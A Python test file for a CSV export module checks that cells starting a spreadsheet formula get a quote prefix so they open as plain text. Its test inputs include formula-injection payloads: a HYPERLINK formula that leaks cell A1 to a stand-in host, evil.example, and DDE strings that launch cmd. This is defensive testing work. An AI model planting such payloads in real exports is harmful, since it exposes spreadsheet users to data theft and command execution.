"""Exports that citizens' and officers' text reaches are safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from terang.core.exports import neutralise_formula, safe_csv_writer


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"klik")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_that_starts_a_formula_becomes_plain_text(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("value", [12500, -3, 1.25, -0.5, None, True, "Melati", "", "a=b"])
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert neutralise_formula(value) == value


@pytest.mark.parametrize("text", ["-2.5", "+7", "-1e3", "-.5"])
def test_text_that_is_exactly_a_number_stays_a_number(text):
    assert neutralise_formula(text) == text


def test_safe_csv_writer_neutralises_every_cell():
    buffer = io.StringIO()
    safe_csv_writer(buffer).writerow(["=1+1", 5, "-4", "ok"])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1+1", "5", "-4", "ok"]
